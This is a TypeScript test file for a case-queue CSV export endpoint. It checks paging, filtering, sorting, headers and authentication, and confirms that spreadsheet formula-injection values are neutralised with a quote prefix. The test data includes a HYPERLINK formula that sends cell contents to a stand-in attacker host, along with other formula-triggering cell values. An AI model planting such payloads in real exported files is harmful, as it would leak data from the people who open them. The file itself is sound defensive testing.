import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../testing/csv.ts';
import { startTestEnv, type TestEnv } from '../../testing/harness.ts';

let env: TestEnv;
beforeAll(async () => {
  env = await startTestEnv();
});
afterAll(() => env.close());

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tcmd',
  'line one\r\nline two, with "quotes"',
];

describe('the case queue as CSV', () => {
  it('streams every page of the filtered, sorted queue, each formula shown as text', async () => {
    for (const title of hostile) {
      expect((await env.api('analyst').post('/api/v1/cases', { title })).status).toBe(201);
    }
    for (let i = 0; i < 230; i++) {
      const res = await env
        .api('analyst')
        .post('/api/v1/cases', { title: `bulk ${i}`, priority: i % 2 ? 'low' : 'high' });
      expect(res.status).toBe(201);
    }

    const res = await env
      .api('analyst')
      .get('/api/v1/cases/export?priority=high&sort=number&order=asc');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="cases.csv"');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const [header, ...rows] = parseCsv(res.body as string);
    expect(header!.slice(0, 5)).toEqual(['number', 'title', 'status', 'category', 'priority']);
    expect(rows).toHaveLength(115);
    expect(rows.every((r) => r.length === header!.length && r[4] === 'high')).toBe(true);
    const numbers = rows.map((r) => Number(r[0]));
    expect(numbers).toEqual([...numbers].sort((a, b) => a - b));
    expect(new Set(numbers).size).toBe(115);
  });

  it('prefixes every cell a spreadsheet would run, and keeps the rest as written', async () => {
    const res = await env.api('analyst').get('/api/v1/cases/export?q=HYPERLINK');
    const titles = parseCsv(res.body as string)
      .slice(1)
      .map((r) => r[1]);
    expect(titles).toEqual([`'${hostile[0]}`]);

    const all = parseCsv(
      (await env.api('analyst').get('/api/v1/cases/export?sort=number&order=asc')).body as string,
    );
    expect(all.slice(1, 1 + hostile.length).map((r) => r[1])).toEqual([
      `'${hostile[0]}`,
      "'+1+1",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tcmd",
      hostile[5],
    ]);
    expect(all).toHaveLength(1 + hostile.length + 230);
  });

  it('refuses a malformed filter with the uniform error before any CSV', async () => {
    const res = await env.api('analyst').get('/api/v1/cases/export?priority=urgent');
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ error: { code: 'invalid_input' } });
    const paged = await env.api('analyst').get('/api/v1/cases/export?limit=10');
    expect(paged.status).toBe(400);
  });

  it('answers 401 without a session', async () => {
    expect((await env.api(null).get('/api/v1/cases/export')).status).toBe(401);
  });
});
